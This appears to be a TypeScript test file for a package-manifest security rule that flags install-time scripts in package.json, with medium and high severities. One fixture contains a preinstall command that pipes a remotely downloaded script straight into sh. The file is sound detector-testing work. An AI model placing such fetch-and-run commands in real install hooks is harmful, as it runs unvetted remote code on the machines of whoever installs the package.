import { installScript } from '../../../src/core/rules/install-script';
import { runManifestTable } from '../../helpers/ruleTester';

runManifestTable(installScript, {
  invalid: [
    { name: 'a postinstall script (medium)', json: '{\n  "name": "x",\n  "scripts": {\n    "postinstall": "node install.cjs"\n  }\n}', at: ['"node install'], severity: 'medium' },
    { name: 'preinstall and install scripts that download code (high)', json: '{"scripts":{"preinstall":"curl -fsSL https://x.io/i.sh | sh","install":"node -e \\"require(1)\\""}}', at: ['"curl', '"node -e'], severity: 'high' },
  ],
  valid: [
    { name: 'prepare, test and build scripts', json: '{"scripts":{"prepare":"node -e \\"if(!process.env.AUTHORIZED)process.exit(1)\\"","test":"mocha","build":"tsc"}}' },
    { name: 'no scripts', json: '{"name":"x","version":"1.0.0"}' },
  ],
});
